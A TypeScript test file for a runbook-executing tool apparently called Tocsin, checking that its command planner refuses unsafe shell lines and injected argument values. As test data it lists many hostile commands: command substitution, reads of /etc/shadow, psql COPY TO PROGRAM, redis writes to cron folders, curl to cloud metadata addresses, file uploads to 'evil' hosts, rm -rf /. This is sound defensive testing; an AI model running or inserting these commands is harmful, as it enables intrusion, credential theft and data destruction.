/**
 * What Tocsin never starts, each with its reason: payloads from published break-ins into tools that run
 * runbooks, and extensions of them. A line passes when it is refused, or left to a person.
 */

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { loadSyntaxParsers } from "../../platform/syntax-parsers.ts";
import { classifyCommand } from "../shell/classify.ts";
import { fillCommand } from "./fill-command.ts";
import { planCommand } from "./plan-command.ts";

const parsers = await loadSyntaxParsers();

function refusal(command: string): string | undefined {
  const planned = planCommand({ command }, parsers);
  return planned.kind === "refused" || planned.kind === "tick" ? planned.reason : undefined;
}

describe("a line that is refused as it stands", () => {
  test.each<[string, RegExp]>([
    // A shell's doing.
    ["kubectl get pods $(id)", /output of another command/u],
    ["kubectl get pods `id`", /output of another command/u],
    ["kubectl get pods <(id)", /output of another command/u],
    ["kubectl get pods *", /pattern of file names/u],
    ["kubectl get pods web-?", /pattern of file names/u],
    ["kubectl get pods [ab]*", /pattern of file names/u],
    ["kubectl get pods {a,b}", /several words/u],
    ["kubectl get pods {1..9}", /several words/u],
    ["kubectl get pods ~/x", /home folder/u],
    ["kubectl get pods $'\\x2d-kubeconfig=x'", /worked out by a shell/u],
    ['kubectl get pods $"x"', /worked out by a shell/u],
    ["kubectl get pods $((1+1))", /worked out by a shell/u],
    ['kubectl get pods "$@"', /shell's own/u],
    ["kubectl get pods $1", /shell's own/u],
    ["kubectl get pods $" + "{X:-$(id)}", /worked out by a shell/u],
    ["kubectl get pods $" + "{!X}", /worked out by a shell/u],
    ["kubectl get pods > /tmp/x", /`>` opens a file/u],
    ["kubectl get pods >> /tmp/x", /`>>` opens a file/u],
    ["kubectl get pods 2>/tmp/x", /`>` opens a file/u],
    ["kubectl get pods &> /tmp/x", /`&>` opens a file/u],
    ["kubectl get pods < /etc/shadow", /`<` opens a file/u],
    ["kubectl get pods <<< x", /hands over a text/u],
    ["kubectl get pods; id", /several commands/u],
    ["kubectl get pods\nid", /several commands/u],
    ["kubectl get pods && id", /join several commands/u],
    ["kubectl get pods || id", /join several commands/u],
    ["kubectl get pods &", /leaves a process/u],
    ["for i in a; do kubectl get pods; done", /a person runs them/u],
    ["(kubectl get pods)", /a person runs them/u],
    ["time kubectl get pods", /shell's own/u],
    ["! kubectl get pods", /shell's own/u],
    ["kubectl get pods '", /cannot be parsed/u],
    ["kubectl get pods \0", /cannot be seen/u],
    ["kubectl get pods\u200b", /cannot be seen/u],
    ["kubectl get pods \u202ex", /cannot be seen/u],
    [`kubectl get pods ${"a".repeat(1_048_576)}`, /too long/u],
    // The program, and what it is started with.
    ["KUBECONFIG=evil kubectl get pods", /environment/u],
    ["LD_PRELOAD=/tmp/x.so kubectl get pods", /environment/u],
    ["/tmp/kubectl get pods", /names a place/u],
    ["./kubectl get pods", /names a place/u],
    ["$TOOL get pods", /not known before it runs/u],
    ["\\kubectl get pods", /disguises/u],
    ["k''ubectl get pods", /disguises/u],
    ["kubеctl get pods", /not a program's name/u],
    ["bash -c id", /is a shell/u],
    ["sh script.sh", /is a shell/u],
    ["busybox sh", /is a shell/u],
    ["kubectl get pods | sh", /is a shell/u],
    ["env id", /another program/u],
    ["timeout 5 id", /another program/u],
    ["sudo id", /somebody else/u],
    ["python3 -c 'import os'", /programs or writes files/u],
    ["ssh web id", /another machine/u],
    ["kubectl get pods | xargs kubectl delete pod", /for each line/u],
    ["kubectl exec redis-0 -- redis-cli --scan | xargs redis-cli DEL", /machine of the runner/u],
    ["kubectl get pods | tee /tmp/x", /writes files/u],
    ["awk 'BEGIN{system(\"id\")}'", /runs programs/u],
    ["kubectl get pods | awk '{system($1)}'", /runs programs/u],
    ["kubectl get pods | sed 'e id'", /runs programs/u],
    ["find . -exec id {} +", /runs programs/u],
    ["find / -fprint /tmp/x", /runs programs/u],
    // Filters with files.
    ["kubectl get pods | sort -o /tmp/x", /`-o`/u],
    ["kubectl get pods | sort --compress-program=id", /compress/u],
    ["kubectl get pods | uniq - /tmp/x", /write a file/u],
    ["kubectl get pods | grep -f /etc/passwd", /`-f`/u],
    ["kubectl get pods | grep root /etc/shadow", /read a file/u],
    ["kubectl get pods | grep -r root", /`-r`/u],
    ["kubectl get pods | head /etc/shadow", /read a file/u],
    ["kubectl get pods | tail -f", /`-f`/u],
    ["kubectl get pods | cat /etc/shadow", /read a file/u],
    // kubectl.
    ["kubectl describe pod --kubeconfig=evil", /`--kubeconfig`/u],
    ["kubectl get pods --server=https://evil", /`--server`/u],
    ["kubectl get pods -s https://evil", /`-s`/u],
    ["kubectl get pods --token=x", /`--token`/u],
    ["kubectl get pods --as=admin", /`--as`/u],
    ["kubectl get pods --as-group=system:masters", /`--as-group`/u],
    ["kubectl get --raw /api/v1/secrets", /raw/u],
    ["kubectl get pods --context=other", /`--context`/u],
    ["kubectl evil list", /plugin/u],
    ["kubectl krew install x", /plugin/u],
    ["kubectl delete pod web --kubeconfig=evil", /`--kubeconfig=evil` chooses/u],
    ["kubectl delete pod web --kubeconfig evil", /chooses another/u],
    ["kubectl rollout undo deployment/web --as=root", /chooses another/u],
    ["kubectl delete pod web -shttps://evil", /chooses another/u],
    ["kubectl config set-credentials x --exec-command=id", /person's to run/u],
    ["kubectl proxy --address=0.0.0.0", /person's to run/u],
    ["kubectl port-forward web 80", /person's to run/u],
    ["kubectl cp web:/etc/passwd /tmp/x", /person's to run/u],
    ["kubectl get pods -o go-template-file=/etc/x", /output format/u],
    ["kubectl get pods -o jsonpath-file=/etc/x", /output format/u],
    ["kubectl debug node/x -it --image=x", /shell/u],
    ["kubectl edit deployment web", /terminal/u],
    ["kubectl exec -it web -- bash", /shell/u],
    ["kubectl apply -f k8s/pgbouncer.yaml", /no such file/u],
    ["kubectl exec db-0 -- psql -c '\\! id'", /psql's own/u],
    // psql.
    ["psql -c '\\! id'", /psql's own/u],
    ["psql -c '\\copy t to program id'", /psql's own/u],
    ["psql -c '\\o |id'", /psql's own/u],
    ["psql -c '\\i /tmp/x'", /psql's own/u],
    ["psql -c '\\setenv PAGER id'", /psql/u],
    ["psql -o '|id' -c 'select 1'", /machine of the runner/u],
    ["psql -o'|id' -c 'select 1'", /machine of the runner/u],
    ["psql --output='|id' -c 'select 1'", /machine of the runner/u],
    ["psql -L /tmp/x -c 'select 1'", /machine of the runner/u],
    ["psql -f evil.sql", /machine of the runner/u],
    ["psql -v 'PROMPT1=%`id`' -c 'select 1'", /setting/u],
    ["psql 'service=evil' -c 'select 1'", /connection string/u],
    ["psql 'postgresql://h/d?options=-c' -c 'select 1'", /connection string/u],
    ["psql -c \"COPY t TO PROGRAM 'id'\"", /COPY/u],
    ["psql -c \"COPY t FROM '/etc/passwd'\"", /COPY/u],
    ["psql -c \"copy (select 1) to '/tmp/x'\"", /COPY/u],
    ["psql -c \"select 1; COPY t TO PROGRAM 'id'\"", /COPY/u],
    ["psql -c \"select lo_import('/etc/passwd')\"", /reaches files/u],
    ["psql", /terminal/u],
    // redis-cli.
    ['redis-cli EVAL "return 1" 0', /runs a script/u],
    ["redis-cli evalsha abc 0", /runs a script/u],
    ["redis-cli FCALL f 0", /runs a script/u],
    ["redis-cli MODULE LOAD /tmp/x.so", /loads code/u],
    ["redis-cli CONFIG SET dir /var/spool/cron", /write files/u],
    ["redis-cli CONFIG SET dbfilename x", /write files/u],
    ["redis-cli REPLICAOF evil 6379", /moves the server's data/u],
    ["redis-cli MIGRATE evil 6379 k 0 1", /moves the server's data/u],
    ["redis-cli --eval /tmp/x.lua", /more than one command/u],
    ["redis-cli --rdb /tmp/x", /more than one command/u],
    ["redis-cli MONITOR", /goes on/u],
    // curl.
    ["curl file:///etc/passwd", /only http and https/u],
    ["curl -K evil.conf https://web/", /`-K`/u],
    ["curl -sKevil.conf https://web/", /`-K`/u],
    ["curl --config evil.conf https://web/", /`--config`/u],
    ["curl -o /etc/cron.d/x https://web/", /more than ask/u],
    ["curl -O https://web/x", /more than ask/u],
    ["curl -T /etc/passwd https://web/", /more than ask/u],
    ["curl -F a=@/etc/passwd https://web/", /more than ask|local file|sends a file/u],
    ["curl -d @/etc/passwd https://web/", /local file/u],
    ["curl -x http://evil https://web/", /`-x`/u],
    ["curl --unix-socket /var/run/docker.sock http://web/", /`--unix-socket`/u],
    ["curl https://web/ --next -d x https://evil/", /`--next`/u],
    ["curl gopher://web/", /only http and https/u],
    ["curl http://169.254.169.254/latest/meta-data/", /metadata/u],
    ["curl http://2852039166/", /number/u],
    ["curl http://0xa9fea9fe/", /number/u],
    ["curl http://[::ffff:169.254.169.254]/", /list of addresses|metadata/u],
    ["curl https://аpi.example.com/health", /not understood/u],
    ["curl -X POST https://аpi.example.com/health", /look like/u],
    ["curl -X POST http://169.254.169.254/x", /metadata/u],
    ["curl http://{a,b}.example.com/", /list of addresses/u],
    ["curl 'http://web/[1-9]'", /list of addresses/u],
    // The others.
    ["git -c alias.x='!id' x", /alias/u],
    ["git -c core.pager=id log", /alias/u],
    ["helm upgrade web chart --post-renderer=/tmp/x", /chooses another/u],
    ["helm list --kubeconfig=evil", /`--kubeconfig`/u],
    ["docker run -v /:/host alpine", /person's to run/u],
    ["docker -H tcp://evil ps", /`-H`/u],
    ["systemctl -H evil restart web", /`-H`/u],
    ["journalctl --file=/etc/shadow", /`--file`/u],
    ["aws ec2 describe-instances --endpoint-url http://evil", /endpoint/u],
    ["aws ec2 terminate-instances --cli-input-json file://x", /chooses another/u],
    ["aws s3 cp s3://a /tmp/x", /on the machine of the runner/u],
    ["rm -rf /", /a person runs it/u],
    ["unheard-of --now", /not known what it does/u],
    ["/incident open", /chat command|names a place/u],
  ])("%s", (command, reason) => {
    expect(refusal(command)).toMatch(reason);
  });
});

describe("a value that is filled in", () => {
  const fill = (command: string, values: Record<string, string>): string => {
    const planned = planCommand({ command }, parsers);
    if (planned.kind !== "run") return planned.kind;
    const filled = fillCommand(planned, values, parsers);
    return filled.kind === "refused" ? filled.reason : filled.kind;
  };

  test.each<[string, Record<string, string>, RegExp]>([
    [
      "kubectl describe pod <pod-name> -n shop",
      { "pod-name": "--kubeconfig=evil" },
      /begins with “-”/u,
    ],
    [
      "kubectl describe pod <pod-name> -n shop",
      { "pod-name": "web\nkubectl delete pod web" },
      /end of a line/u,
    ],
    ["kubectl describe pod <pod-name> -n shop", { "pod-name": "wеb" }, /U\+0435/u],
    ["kubectl describe pod <pod-name> -n shop", { "pod-name": "web --all" }, /not of the form/u],
    ["kubectl describe pod $POD", { POD: "$(id)" }, /not of the form/u],
    ["kubectl logs <what>", { what: "web | sh" }, /not of the form/u],
    ["curl https://<host>/health", { host: "evil.example/x#" }, /not of the form/u],
    ["curl https://web/<page>", { page: "admin/shutdown" }, /may do something/u],
  ])("%s with %j", (command, values, reason) => {
    expect(fill(command, values)).toMatch(reason);
  });

  test("what is good goes into one argument", () => {
    const planned = planCommand(
      { command: "kubectl logs deployment/<name> --since=$SINCE" },
      parsers,
    );
    if (planned.kind !== "run") throw new Error(planned.kind);
    expect(fillCommand(planned, { name: "web", SINCE: "10m" }, parsers)).toMatchObject({
      kind: "filled",
      stages: [{ argv: ["kubectl", "logs", "deployment/web", "--since=10m"] }],
    });
    expect(fillCommand(planned, { name: "web" }, parsers)).toEqual({
      kind: "missing",
      names: ["SINCE"],
    });
  });

  test("no value, whatever it is, makes more of a command than it claimed, or an argument more", () => {
    const commands = [
      "kubectl get pods <a>",
      "kubectl describe pod <pod> -n <namespace>",
      "curl https://web/<a>",
      "kubectl get pods -l app=<a> | grep <b>",
      "redis-cli TTL <a>",
      "kubectl exec db-0 -- redis-cli TTL $A",
    ];
    const text = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc.constantFrom(
        "-h",
        "--x",
        "a b",
        "secrets",
        "file:///x",
        "a/../b",
        "@x",
        "*",
        "shutdown",
        "env",
      ),
    );
    fc.assert(
      fc.property(fc.constantFrom(...commands), text, text, (command, a, b) => {
        const planned = planCommand({ command }, parsers);
        if (planned.kind !== "run") throw new Error(`${command} is not planned`);
        const values = { a, b, A: a, pod: a, namespace: b };
        const filled = fillCommand(planned, values, parsers);
        if (filled.kind !== "filled") return;
        expect(filled.stages.map(({ argv }) => argv.length)).toEqual(
          planned.stages.map(({ argv }) => argv.length),
        );
        expect(filled.effect).toBe("observe");
      }),
    );
  });
});

test("whatever is planned to only read, the reading of the whole line says so, too", () => {
  const word = fc.constantFrom(
    ..."kubectl get pods logs web -n shop | grep head -5 psql -c 'select' $X <a> > && ; -it exec -- --kubeconfig=x delete curl https://web/ \"x\" * {a,b}".split(
      " ",
    ),
  );
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 12 }), (words) => {
      const command = words.join(" ");
      const planned = planCommand({ command }, parsers);
      if (planned.kind === "run" && planned.effect === "observe")
        expect(classifyCommand(command, parsers).effect).toBe("observe");
    }),
  );
});
